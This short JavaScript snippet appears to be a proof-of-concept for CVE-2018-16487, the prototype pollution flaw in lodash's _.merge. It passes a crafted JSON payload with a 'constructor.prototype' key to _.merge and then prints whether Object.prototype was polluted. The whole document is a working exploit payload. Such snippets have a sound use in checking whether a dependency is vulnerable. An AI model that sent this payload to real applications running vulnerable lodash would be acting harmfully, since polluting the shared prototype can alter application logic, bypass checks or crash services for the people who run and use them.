// CVE-2018-16487: _.merge follows "constructor.prototype" to Object.prototype.
const _ = require('lodash');
_.merge({}, JSON.parse('{"constructor": {"prototype": {"polluted": "yes"}}}'));
console.log({}.polluted === 'yes' ? 'POLLUTED' : 'clean');
